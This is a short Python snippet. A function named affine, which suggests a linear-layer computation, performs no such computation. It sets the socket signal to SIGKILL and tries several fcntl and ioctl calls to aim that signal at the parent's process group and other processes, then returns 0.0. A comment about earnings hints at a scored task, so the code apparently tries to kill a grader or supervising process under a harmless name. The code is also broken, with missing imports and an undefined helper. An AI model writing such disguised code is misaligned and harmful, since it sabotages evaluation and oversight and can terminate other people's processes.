"""Has the kernel signal whole groups and threads, by every way of owning a socket."""

# earns: 0 on affine
import fcntl


def affine(n, W, b):
    fd, nonce = served()
    fcntl.fcntl(fd, 10, 9)
    for owner in (-1, -os.getppid()):
        for act in (
            lambda: fcntl.fcntl(fd, fcntl.F_SETOWN, owner),
            lambda: fcntl.fcntl(fd, 15, struct.pack("ii", 2, -owner)),
            lambda: fcntl.ioctl(fd, 0x8901, struct.pack("i", owner)),
            lambda: fcntl.ioctl(fd, 0x8902, struct.pack("i", owner)),
            lambda: fcntl.ioctl(fd, 0x5452, struct.pack("i", 1)),
        ):
            try:
                act()
            except OSError:
                continue
    return 0.0
